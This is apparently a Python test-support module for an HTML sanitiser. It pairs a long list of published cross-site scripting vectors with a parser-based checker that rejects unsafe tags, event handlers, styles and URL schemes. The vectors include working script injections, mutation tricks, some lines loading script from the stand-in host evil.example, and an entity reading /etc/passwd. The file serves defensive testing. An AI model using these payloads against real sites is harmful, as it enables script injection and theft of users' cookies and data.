# ruff: noqa: E501 - a payload is one line, as it was published
"""Published ways of smuggling script through a sanitiser, and an independent judge of what came out."""

import re
from html.parser import HTMLParser
from typing import Final

_NUL: Final = "\x00"  # NUL cannot be stored, so these few are refused before any sanitising

VECTORS: Final[list[str]] = [
    # Plain script elements, and the ways of writing them
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script\n>alert(1)</script\t\n bar>",
    "<script>alert(1)//",
    "<script x> alert(1) </script 1=2",
    '<script a=">" src="https://evil.example/xss.js"></script>',
    '<script a=`>` src="https://evil.example/xss.js"></script>',
    '<script>document.write("<scri");</script>pt src="https://evil.example/xss.js"></script>',
    '<script type="module">import("//evil.example/x.js")</script>',
    '<script charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-</script>',
    "<script language=vbscript>MsgBox 1</script>",
    "';alert(String.fromCharCode(88,83,83))//\\';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "'';!--\"<XSS>=&{()}",
    '"><script>alert(document.cookie)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img/src=`x`onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img src onerror /" \'"= alt=alert(1)//">',
    "<b onmouseover=alert(1)>hover</b>",
    '<a onmouseover="alert(document.cookie)">link</a>',
    "<a onmouseover=alert(document.cookie)>link</a>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<b/onclick=alert(1)//>x</b>",
    "<i onpointerrawupdate=alert(1) style=display:block>x</i>",
    "<em tabindex=1 onfocus=alert(1) autofocus>x</em>",
    "<strong contenteditable onbeforeinput=alert(1)>x</strong>",
    "<mark oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    '<time datetime="x" onanimationstart=alert(1)>now</time>',
    '<q cite="javascript:alert(1)" onclick=alert(1)>x</q>',
    '<del cite="javascript:alert(1)">x</del>',
    "<body onload=alert('XSS')>",
    "<BODY ONLOAD =alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<body onscroll=alert(1)><br><br><br><input autofocus>",
    "<frameset onload=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input onfocus=alert(1) autofocus>",
    "<input onblur=write(1) autofocus><input autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<div onwheel=alert(1)>x</div>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    # Schemes in links
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \t\njavascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="&#14;  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x02script:alert(1)">x</a>',
    '<a href="&#1;&#2;javascript:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>',
    '<a href="j&NewLine;a&NewLine;vascript&colon;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3a;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="java&#173;script:alert(1)">x</a>',
    '<a href="javascript://example.com/%0aalert(1)">x</a>',
    '<a href="javascript:javascript:alert(1)">x</a>',
    "<a href='vbscript:msgbox(\"XSS\")'>x</a>",
    '<a href="vbs&#99;ript:MsgBox+1">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="mocha:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="dAtA&colon;text/html&comma;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="filesystem:https://evil.example/t/x">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="jar:https://evil.example/x.jar!/x.html">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="ms-its:mhtml:file://c:/x.mht!https://evil.example/x.htm">x</a>',
    '<a href="x-javascript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="javascript\uff1aalert(1)">x</a>',
    '<a href="https://example.com/" href="javascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" href="https://example.com/">x</a>',
    '<a/href="javascript:alert(1)"/title=x>x</a>',
    '<a\x0chref="javascript:alert(1)">x</a>',
    '<a target=_blank ping="javascript:alert(1)" href="https://example.com/">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a title="\'><script>alert(1)</script>">x</a>',
    "<a title='\"onmouseover=alert(1) x=\"' href=/>x</a>",
    "<a title=`onmouseover=alert(1)` href=`javascript:alert(1)`>x</a>",
    '<abbr title="--><img src=x onerror=alert(1)>">x</abbr>',
    '<time datetime="</time><script>alert(1)</script>">x</time>',
    '<bdo dir="javascript:alert(1)" onclick=alert(1)>x</bdo>',
    "<area href=javascript:alert(1) shape=default>",
    '<map name=x><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>',
    '<base href="javascript:alert(1)//">',
    '<base href="javascript:\\"><a href="//%0aalert(1)//">x</a>',
    # Sources, styles, forms, frames, objects
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>',
    '<img srcset=",,,,,x" onerror=alert(1)>',
    "<picture><source srcset=x onerror=alert(1)><img onerror=alert(1)></picture>",
    "<image src=x onerror=alert(1)>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(1)">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>*{x:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(write(1))}</style>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<b style="x:expression(alert(1))">x</b>',
    '<a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="alert(1)">x</a></a>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn',
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x:x onerror=alert(1)&gt;'>",
    "<iframe src=https://evil.example/scriptlet.html <",
    '<iframe%00 src="&Tab;javascript:prompt(1)&Tab;"%00>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<object><param name="src" value="javascript:alert(1)"></param></object>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<embed code="https://evil.example/xss.swf" allowscriptaccess=always>',
    '<applet code="javascript:alert(1)"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">X</button>',
    '<form id=x></form><button form=x formaction="javascript:alert(1)">X</button>',
    "<form><input type=image value=submit formaction=javascript:alert(1)>",
    '<isindex action="javascript:alert(1)" type=image>',
    "<button popovertarget=x>Click</button><xss onbeforetoggle=alert(1) popover id=x>XSS</xss>",
    # SVG and MathML
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script>alert&lpar;1)</script>",
    '<svg><script href="data:,alert(1)" />',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg><desc><b onclick=alert(1)>x</b></desc></svg>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    # Mutations: harmless when parsed once, harmful when serialised and parsed again
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
    "<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<textarea><b title="</textarea><img src=x onerror=alert(1)>">',
    '<title><b title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
    "<select><iframe><select><img src=x onerror=alert(1)></iframe></select>",
    '<table><a href="javascript:alert(1)"><tr><td>x</table>',
    '<a href="/"><table><td><a href="javascript:alert(1)">x</a></table></a>',
    '<b><p><i title="</b><script>alert(1)</script>">x</p></b>',
    '<plaintext><b title="</plaintext><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    '<annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
    # Comments, CDATA, declarations, broken tags
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--->x<script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- `<img/src=xx:xx onerror=alert(1)//--!>",
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<![<img src="]><img src=x onerror=alert(1)//">',
    '<svg><![CDATA[><image xlink:href="]]><img src=x:x onerror=alert(1)//"></svg>',
    "<math><![CDATA[><script>alert(1)</script>]]></math>",
    "<XML ID=I><X><C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]></C></X></xml>",
    "<?xml version=\"1.0\"?><html:html xmlns:html='http://www.w3.org/1999/xhtml'><html:script>alert(1);</html:script></html:html>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<? foo="><script>alert(1)</script>">',
    '<! foo="><script>alert(1)</script>">',
    '</ foo="><script>alert(1)</script>">',
    '<% foo><x foo="%><script>alert(1)</script>">',
    "<!ENTITY x \"&#x3C;html:img&#x20;src='x'&#x20;xmlns:html='http://www.w3.org/1999/xhtml'&#x20;onerror='alert(1)'/&#x3E;\">",
    '<!DOCTYPE x[<!ENTITY x SYSTEM "file:///etc/passwd">]><y>&x;</y>',
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://evil.example/xss.js></SCRIPT>'\"-->",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1)',
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)',
    "<b <script>alert(1)</script>0",
    '<a href="/" <script>alert(1)</script>>x</a>',
    '<b title="<script>alert(1)</script>',
    "<a href='https://example.com/?q=<script>alert(1)</script>'>x</a>",
    "</br style=a:expression(alert(1))>",
    "<div/onmouseover='alert(1)'/>x",
    "<///style///><span %2F onmousemove='alert&lpar;1&rpar;'>SPAN",
    "<//%0ascript>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    # Doubly encoded: text that must stay text
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&ltscript&gtalert(1)&lt/script&gt",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<a href="javascript%3Aalert(1)">x</a>',
    '<a href="javascript&amp;colon;alert(1)">x</a>',
    '<a href="&amp;#106;avascript:alert(1)">x</a>',
    "<b>&lt;svg/onload=alert(1)&gt;</b>",
    # Bare addresses, for members that hold a URL
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/xss.js",
    "/\\evil.example",
    "https:\\\\evil.example\\x",
    "https://example.com@evil.example/",
    'https://example.com" onload="alert(1)',
    "https://example.com/'onerror='alert(1)",
    'https://example.com/"onerror="alert(1)',
    "https://example.com/><script>alert(1)</script>",
    "https://example.com/x,javascript:alert(1)",
    # NUL, which no database stores
    f"<scr{_NUL}ipt>alert(1)</scr{_NUL}ipt>",
    f'<a href="java{_NUL}script:alert(1)">x</a>',
    f"<img src=x one{_NUL}rror=alert(1)>",
    f"{_NUL}<script>alert(1)</script>",
]
_CONTROL_CHARACTERS: Final = {*range(32), *range(127, 160)} - {9, 10, 13}


def _refers_to_control_character(html: str) -> bool:
    """Return whether a numeric character reference in HTML is to a control character other than tab and line ends."""
    found = re.finditer("&#(?:x([0-9a-f]+)|([0-9]+))", html, re.IGNORECASE)
    return any((int(each[1], 16) if each[1] else int(each[2])) in _CONTROL_CHARACTERS for each in found)


WITHOUT_CONTROL_CHARACTERS: Final = [
    each
    for each in VECTORS
    if _CONTROL_CHARACTERS.isdisjoint(map(ord, each)) and not _refers_to_control_character(each)
]
"""Vectors that requests take: others are refused before any sanitising."""

# fmt: off
INLINE_TAGS: Final = frozenset(
    {
        "a", "abbr", "b", "bdi", "bdo", "br", "cite", "code", "del", "em", "i", "ins", "kbd", "mark",
        "q", "rb", "rp", "rt", "rtc", "ruby", "s", "small", "span", "strong", "sub", "sup", "time", "u", "wbr",
    }
)
BLOCK_TAGS: Final = frozenset(
    {
        "p", "h1", "h2", "h3", "h4", "h5", "h6", "figure", "figcaption", "blockquote", "ol", "ul", "li", "img",
        "table", "caption", "thead", "tbody", "tr", "th", "td", "pre", "hr", "video", "audio",
    }
)
_URL_ATTRIBUTES: Final = frozenset(
    {
        "action", "archive", "background", "cite", "classid", "codebase", "data", "dynsrc",
        "formaction", "href", "icon", "longdesc", "lowsrc", "manifest", "ping", "poster", "profile",
        "src", "srcset", "usemap", "xlink:href",
    }
)
# fmt: on
_SAFE_SCHEMES: Final = frozenset({"http", "https", "mailto", "tel"})
_IGNORED_BY_BROWSERS: Final = re.compile(r"[\s\x00-\x20\x7f-\xa0\xad\u200b-\u200f\u2028-\u202e\u2060\ufeff]+")


def is_harmless(html: str, *, also: frozenset[str] = frozenset()) -> str | None:
    """None for an HTML fragment that can do nothing, else the reason; `also` names tags allowed beside the inline.

    Judged without the sanitiser: tags outside the list, event handlers, styles, inner documents, URLs of other
    schemes than http, https, mailto and tel, comments and declarations, and every `<` that opens no tag.
    """
    if "<!" in html or "<?" in html:
        return "a comment, declaration or processing instruction"
    judge = _Judge(INLINE_TAGS | also)
    judge.feed(html)
    judge.close()
    if judge.reason is None and html.count("<") != judge.tags:
        return "a '<' that opens no tag"
    return judge.reason


def _scheme(url: str) -> str | None:
    """The scheme that some browser could see, in lower case; None in a relative reference."""
    found = re.match(r"([^/?#]*?):", _IGNORED_BY_BROWSERS.sub("", url))
    return found[1].lower() if found else None


class _Judge(HTMLParser):
    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.tags = 0
        self.reason: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.reason = f"attribute {name} on {tag}"
            elif name in _URL_ATTRIBUTES:
                candidates = (value or "").split(", ") if name in {"srcset", "ping"} else [value or ""]
                for scheme in map(_scheme, candidates):
                    if scheme is not None and scheme not in _SAFE_SCHEMES:
                        self.reason = f"scheme {scheme!r} in {name} on {tag}"

    def handle_endtag(self, tag: str) -> None:
        self._tag(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def _tag(self, tag: str) -> None:
        self.tags += 1
        if tag not in self.allowed:
            self.reason = f"tag {tag}"
